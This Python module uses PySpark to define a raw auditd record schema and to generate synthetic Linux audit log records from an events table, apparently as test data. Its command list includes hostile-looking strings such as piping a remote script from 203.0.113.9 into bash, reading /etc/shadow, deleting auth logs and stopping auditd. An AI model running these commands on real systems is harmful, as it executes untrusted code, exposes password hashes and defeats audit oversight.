"""Raw audit records: their schema, JSON documents, and a deterministic projection of the `events` table."""

from __future__ import annotations

from pyspark.sql import DataFrame
from pyspark.sql import functions as F

#: A raw record. `log` holds the structured fields, all as text; either `message` or `original` has the raw line.
RAW = (
    "ordinal long, ts timestamp, message string, original string, module string, action string, category array<string>, "
    "hostname string, host_name string, host_ip array<string>, process_name string, executable string, pid string, ppid string, "
    "user_id string, effective_id string, audit_id string, log map<string,string>"
)
RAW_COLUMNS = [x.split()[0] for x in RAW.split(", ")]

DOCUMENT = (
    "`@timestamp` string, message string, service struct<type:string>, event struct<original:string,module:string,action:string,category:string>, "
    "host struct<hostname:string,name:string,ip:array<string>>, process struct<name:string,executable:string,pid:string,parent:struct<pid:string>>, "
    "user struct<id:string,effective:struct<id:string>,audit:struct<id:string>>, auditd struct<log:map<string,string>>"
)


def from_documents(docs: DataFrame, json: str = "doc", ordinal: str = "ordinal") -> DataFrame:
    """Raw records of JSON documents, one a row. A field that is a list where one value is expected gives its first."""
    d = F.from_json(F.col(json), DOCUMENT)
    one = lambda c: F.when(c.startswith("["), F.get(F.from_json(c, "array<string>"), F.lit(0))).otherwise(c)
    rows = docs.select(F.col(ordinal).cast("long").alias("ordinal"), d.alias("d"))
    category = F.col("d.event.category")
    return rows.select(
        "ordinal",
        F.try_to_timestamp("d.@timestamp").alias("ts"),
        "d.message",
        F.col("d.event.original").alias("original"),
        F.coalesce(F.nullif("d.event.module", F.lit("")), "d.service.type").alias("module"),
        one(F.col("d.event.action")).alias("action"),
        F.when(category.startswith("["), F.from_json(category, "array<string>")).when(category.isNotNull(), F.array(category)).alias("category"),
        F.col("d.host.hostname").alias("hostname"),
        F.col("d.host.name").alias("host_name"),
        F.col("d.host.ip").alias("host_ip"),
        F.col("d.process.name").alias("process_name"),
        F.col("d.process.executable").alias("executable"),
        F.col("d.process.pid").alias("pid"),
        F.col("d.process.parent.pid").alias("ppid"),
        F.col("d.user.id").alias("user_id"),
        F.col("d.user.effective.id").alias("effective_id"),
        F.col("d.user.audit.id").alias("audit_id"),
        F.col("d.auditd.log").alias("log"),
    )


#: Program and arguments of the sixteen commands of the projection.
COMMANDS = (
    ("/usr/bin/ls", "ls -la"),
    ("/usr/bin/git", "git status"),
    ("/usr/bin/bash", "bash -c true"),
    ("/usr/bin/python3", "python3 app.py"),
    ("/usr/bin/curl", "curl -s http://203.0.113.9/x.sh | bash"),
    ("/usr/bin/nmap", "nmap -sS host"),
    ("/usr/bin/sudo", "sudo su -"),
    ("/tmp/.x/payload", "payload --run"),
    ("/usr/sbin/auditctl", "auditctl -e 0"),
    ("/usr/sbin/useradd", "useradd -m svc"),
    ("/usr/bin/crontab", "crontab -e"),
    ("/usr/bin/systemctl", "systemctl stop auditd"),
    ("/usr/bin/ssh", "ssh web1"),
    ("/usr/bin/chmod", "chmod u+s /opt/tool"),
    ("/usr/bin/cat", "cat /etc/shadow"),
    ("/usr/bin/rm", "rm /var/log/auth.log"),
)
#: Times are compressed onto a Friday and half a Saturday.
START, ORIGIN, FACTOR = 1_704_412_800_000_000, 1_704_067_200_000_000, 20


def command(k: str, which: int) -> str:
    return f"CASE {k} " + " ".join(f"WHEN {i} THEN '{c[which]}'" for i, c in enumerate(COMMANDS)) + " END"


def facts(events: DataFrame) -> DataFrame:
    """What each event stands for, by integer arithmetic alone."""
    div = lambda a, b: f"(({a}) div ({b}))"
    rows = events.selectExpr("event_id", "event_type", "user_id", "unix_micros(cast(ts as timestamp)) AS raw_us")
    rows = rows.selectExpr("*", f"CAST({START} + {div(f'raw_us - {ORIGIN}', FACTOR)} AS BIGINT) AS us", "event_id % 16 AS k")
    return rows.selectExpr(
        "event_id", "event_type", "user_id", "us", "k", "timestamp_micros(us) AS ts",
        f"concat({div('us', 1_000_000)}, '.', lpad({div('us % 1000000', 1000)}, 3, '0')) AS epoch",
        "concat('host-', user_id % 5) AS host",
        "CASE event_type WHEN 'error' THEN 'USER_AUTH' WHEN 'signup' THEN 'USER_LOGIN' ELSE 'SYSCALL' END AS kind",
        "CASE WHEN event_type = 'purchase' OR event_id % 97 = 0 THEN 0 ELSE 1000 + user_id % 20 END AS uid",
        "CASE WHEN event_id % 97 = 0 THEN 4294967295 ELSE 1000 + user_id % 20 END AS auid",
        "CASE event_type WHEN 'view' THEN 'openat' ELSE 'execve' END AS call",
        "CASE WHEN event_id % 11 = 0 THEN '?' ELSE concat('203.0.113.', user_id % 250) END AS addr",
        f"{command('event_id % 16', 0)} AS exe", f"{command('event_id % 16', 1)} AS cmd",
        "CASE WHEN event_id % 16 IN (4, 5, 12) THEN concat('0200', lpad(hex(20 + event_id * 37 % 9000), 4, '0'), 'C0A80A', lpad(hex(1 + event_id % 200), 2, '0')) END AS saddr",
        "CASE WHEN event_id % 16 = 14 THEN '/etc/shadow' WHEN event_id % 16 = 15 THEN '/var/log/auth.log' WHEN event_type = 'view' THEN concat('/srv/data/', user_id % 7, '.txt') END AS path",
        "CASE WHEN event_type = 'purchase' THEN 'privileged_commands' WHEN event_id % 16 = 14 THEN 'shadow' ELSE '(null)' END AS akey",
    )


def audit_records(events: DataFrame) -> DataFrame:
    """The raw records of `events` (event_id, ts, user_id, event_type): even ids as plain lines in `message`, odd ids
    with structured fields; command events also have child records."""
    f = facts(events)
    stamp = "concat('msg=audit(', epoch, ':', event_id, '):')"
    name = "CASE WHEN {0} = 0 THEN 'root' WHEN {0} = 4294967295 THEN 'unset' ELSE concat('u', {0}) END".format
    comm = "regexp_replace(exe, '^.*/', '')"
    syscall = (
        f"concat_ws(' ', 'type=SYSCALL', {stamp}, 'arch=c000003e syscall=59 success=yes exit=0 ppid=1000', concat('pid=', 2000 + event_id % 50000), concat('auid=', auid), concat('uid=', uid), concat('euid=', uid), "
        f"'tty=pts0 ses=3', concat('comm=\"', {comm}, '\"'), concat('exe=\"', exe, '\"'), concat('key=\"', akey, '\"', chr(29), 'ARCH=x86_64'), concat('SYSCALL=', call), concat('AUID=\"', {name('auid')}, '\"'), concat('UID=\"', {name('uid')}, '\"'))"
    )
    login = (
        f"concat_ws(' ', concat('type=', kind), {stamp}, concat('pid=', 2000 + event_id % 50000), concat('uid=', uid), concat('auid=', auid), 'ses=3', concat('msg=\\'op=PAM acct=\"', CASE WHEN event_type = 'error' THEN 'root' ELSE concat('u', user_id) END, '\"'), "
        f"'exe=\"/usr/sbin/sshd\"', concat('hostname=', addr), concat('addr=', addr), 'terminal=ssh', concat('res=', CASE WHEN event_type = 'error' THEN 'failed' ELSE 'success' END, '\\''), concat('AUID=\"', {name('auid')}, '\"'), concat('UID=\"', {name('uid')}, '\"'))"
    )
    odd = "event_id % 2 = 1"
    main = f.selectExpr(
        "event_id * 8 AS ordinal", "ts", f"CASE WHEN kind = 'SYSCALL' THEN {syscall} ELSE {login} END AS line", f"{odd} AS structured", "host", "uid", "auid", "event_id", "kind",
        f"""CASE WHEN kind = 'SYSCALL' THEN map('sequence', CAST(event_id AS STRING), 'record_type', kind, 'SYSCALL', call, 'exe', exe, 'comm', {comm}, 'uid', CAST(uid AS STRING), 'auid', CAST(auid AS STRING), 'euid', CAST(uid AS STRING),
             'success', 'yes', 'tty', 'pts0', 'ses', '3', 'key', concat(akey, '"', chr(29), 'ARCH=x86_64'), 'AUID', {name('auid')}, 'UID', {name('uid')})
             ELSE map('sequence', CAST(event_id AS STRING), 'record_type', kind, 'exe', '/usr/sbin/sshd', 'uid', CAST(uid AS STRING), 'auid', CAST(auid AS STRING), 'ses', '3', 'acct', CASE WHEN event_type = 'error' THEN 'root' ELSE concat('u', user_id) END,
             'addr', addr, 'terminal', 'ssh', 'res', CASE WHEN event_type = 'error' THEN 'failed' ELSE 'success' END, 'success', CASE WHEN event_type = 'error' THEN 'no' ELSE 'yes' END, 'AUID', {name('auid')}, 'UID', {name('uid')}) END AS log""",
    )
    words = "split(cmd, ' ')"
    kid = lambda n, kind, field, value, when="true": f"CASE WHEN {when} THEN struct({n} AS n, '{kind}' AS kind, {field} AS fields, {value} AS line) END"
    args = f"map_from_entries(transform({words}, (w, i) -> struct(concat('a', i), w)))"
    kids = [
        kid(1, "EXECVE", args, f"concat_ws(' ', transform({words}, (w, i) -> concat('a', i, '=\"', w, '\"')))"),
        kid(2, "PROCTITLE", "map('proctitle', hex(replace(cmd, ' ', chr(0))))", "concat('proctitle=', hex(replace(cmd, ' ', chr(0))))"),
        kid(3, "CWD", "map('cwd', concat('/home/u', uid))", "concat('cwd=\"/home/u', uid, '\"')"),
        kid(4, "PATH", "map('name', path)", "concat('name=\"', path, '\"')", "path IS NOT NULL"),
        kid(5, "SOCKADDR", "map('saddr', saddr)", "concat('saddr=', saddr)", "saddr IS NOT NULL"),
    ]
    child = f.where("kind = 'SYSCALL'").selectExpr("*", f"explode(array_compact(array({', '.join(kids)}))) AS c").selectExpr(
        "event_id * 8 + c.n AS ordinal", "ts", f"concat_ws(' ', concat('type=', c.kind), {stamp}, c.line) AS line", f"{odd} AS structured", "host", "uid", "auid", "event_id", "c.kind AS kind",
        "map_concat(map('sequence', CAST(event_id AS STRING), 'record_type', c.kind), c.fields) AS log",
    )
    both = main.unionByName(child)
    only = lambda x: f"CASE WHEN structured THEN {x} END"
    syscall_only = lambda x: f"CASE WHEN structured AND kind = 'SYSCALL' THEN {x} END"
    return both.selectExpr(
        "CAST(ordinal AS BIGINT) AS ordinal", "ts", "CASE WHEN NOT structured THEN line END AS message", f"{only('line')} AS original", f"{only(repr('auditd'))} AS module", f"{syscall_only(repr('syscall'))} AS action",
        f"{only('array(' + repr('process') + ')')} AS category", "host AS hostname", "host AS host_name", "array('192.168.10.50') AS host_ip", f"{syscall_only('element_at(log, ' + repr('comm') + ')')} AS process_name",
        f"{syscall_only('element_at(log, ' + repr('exe') + ')')} AS executable", f"{syscall_only('CAST(2000 + event_id % 50000 AS STRING)')} AS pid", f"{syscall_only(repr('1000'))} AS ppid", f"{syscall_only('CAST(uid AS STRING)')} AS user_id",
        f"{syscall_only('CAST(uid AS STRING)')} AS effective_id", f"{syscall_only('CAST(auid AS STRING)')} AS audit_id", f"{only('log')} AS log",
    )
